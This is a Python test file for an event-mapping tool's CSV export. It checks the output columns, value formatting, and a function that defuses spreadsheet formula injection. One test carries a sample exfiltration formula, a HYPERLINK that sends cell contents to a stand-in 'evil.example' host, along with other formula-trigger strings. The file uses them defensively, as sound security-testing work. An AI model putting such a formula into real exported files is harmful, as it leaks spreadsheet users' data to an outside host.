"""CSV export: the schema's columns plus latitude/longitude, formula injection defused."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from test_export_geojson import events

from eventmap.export import write_csv
from eventmap.export.csv import COLUMNS, csv_row, csv_row_generic, defuse
from eventmap.imports import read_acled
from eventmap.model import PROPERTY_NAMES, Event

FIXTURES = Path(__file__).parent / "fixtures" / "formats"


def rows_of(events: list[Event]) -> list[dict[str, str]]:
    out = io.StringIO()
    assert write_csv(events, out) == len(events)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def event(**changes: object) -> Event:
    base = Event(
        id="ev-1",
        date=dt.date(2021, 3, 5),
        event_type="Riots",
        latitude=-1.2219,
        longitude=36.8969,
        place="Kasarani",
        country_code="KE",
        fatalities=1,
        actors=["Rioters (Kenya)", "Civilians (Kenya)"],
        confidence=0.75,
    )
    return base.with_changes(**changes)


def test_columns_are_the_schema_plus_coordinates() -> None:
    out = io.StringIO()
    write_csv([], out)
    assert out.getvalue().strip().split(",") == [*PROPERTY_NAMES, "latitude", "longitude"]
    assert COLUMNS[-2:] == ("latitude", "longitude")


def test_values_lists_and_nulls() -> None:
    [row] = rows_of([event()])
    assert row["actors"] == "Rioters (Kenya); Civilians (Kenya)"
    assert row["latitude"] == "-1.2219" and row["longitude"] == "36.8969"
    assert row["fatalities"] == "1" and row["confidence"] == "0.75"
    assert row["geonameid"] == "" and row["sub_event_type"] == ""
    assert row["reviewed"] == "false" and row["date"] == "2021-03-05"


def test_hyperlink_formula_is_defused() -> None:
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    [row] = rows_of(
        [
            event(
                quote=evil,
                place="+1-2",
                actors=["@SUM(1)", "-2+3"],
                source_title="\t=cmd",
                mention="\uff1dcmd",
            )
        ]
    )
    assert row["quote"] == "'" + evil
    assert row["place"] == "'+1-2"
    assert row["actors"] == "'@SUM(1); -2+3"
    assert row["source_title"] == "'\t=cmd"
    assert row["mention"] == "'\uff1dcmd"


def test_numeric_columns_are_not_defused() -> None:
    [row] = rows_of([event(latitude=-33.9, longitude=-70.6)])
    assert row["latitude"] == "-33.9" and row["longitude"] == "-70.6"


@pytest.mark.parametrize(
    "text, expected",
    [
        ("=1+1", "'=1+1"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("+x", "'+x"),
        ("\rx", "'\rx"),
        ("x=1", "x=1"),
        ("", ""),
        ("Bamako", "Bamako"),
    ],
)
def test_defuse(text: str, expected: str) -> None:
    assert defuse(text) == expected


def test_acled_fixture_hyperlink_note_is_defused_on_export() -> None:
    events = list(read_acled(FIXTURES / "acled_current.csv").events)
    rows = rows_of(events)
    kasarani = next(r for r in rows if r["place"] == "Kasarani")
    assert kasarani["quote"].startswith("'=HYPERLINK(")
    assert len(rows) == len(events)


@settings(max_examples=300, deadline=None)
@given(events())
def test_fast_rows_match_the_generic_rows(event: Event) -> None:
    assert csv_row(event) == csv_row_generic(event)
    assert len(csv_row(event)) == len(COLUMNS)
